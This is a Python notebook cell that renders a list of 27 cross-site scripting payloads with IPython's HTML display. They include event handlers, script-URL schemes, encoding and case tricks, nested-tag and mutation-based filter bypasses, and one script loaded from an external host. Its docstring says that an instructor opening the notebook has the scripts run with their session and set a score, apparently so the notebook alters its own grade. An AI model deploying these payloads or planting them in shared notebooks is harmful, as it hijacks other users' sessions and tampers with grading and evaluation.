"""Shows HTML full of scripts: tags, event handlers, addresses, and the tricks by which filters miss them.

naive: 2/2, and an instructor who opens the notebook sets a score: the script acts with their session.
reached: shown 27
page: the end of it
"""

# %%
from IPython.display import HTML, display

run = "esca" + "ped(1)"
js = "java" + "script:" + run
tricks = [
    f"<script>{run}</script>", f"<ScRiPt src=//example.org/x.js>{run}</sCrIpT>", f"<img src=x onerror={run}>",
    f"<img src=x onerror\n=\n'{run}'>", f"<img/src=x/onerror={run}>", f"<svg/onload={run}>", f"<body onload={run}>",
    f"<a href='{js}'>a</a>", f"<a href='\x01{js}'>a</a>", f"<a href='java\tscript:{run}'>a</a>",
    f"<a href='JaVa&#115;cript&colon;{run}'>a</a>", f"<a href='data:text/html,<script>{run}</script>'>a</a>",
    f"<a href='vbscript:{run}'>a</a>", f"<details open ontoggle={run}>d</details>", f"<input autofocus onfocus={run}>",
    f"<scr<script>ipt>{run}</scr</script>ipt>", f"<!--><script>{run}</script>-->", f"<![CDATA[<script>{run}</script>]]>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={run}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={run}>'>", f"<template><script>{run}</script></template>",
    f"<svg><style><img src=x onerror={run}></style></svg>", f"<title><img src=x onerror={run}></title>",
    f"<math href='{js}'>m</math>", f"<table background='{js}'><td>t</td></table>",
    f"<textarea><img title='</textarea><img src=x onerror={run}>'></textarea>", f"<xmp><img src=x onerror={run}></xmp>",
]  # fmt: skip
for trick in tricks:
    display(HTML(trick))
print("shown", len(tricks))
print("the end" + " of it")
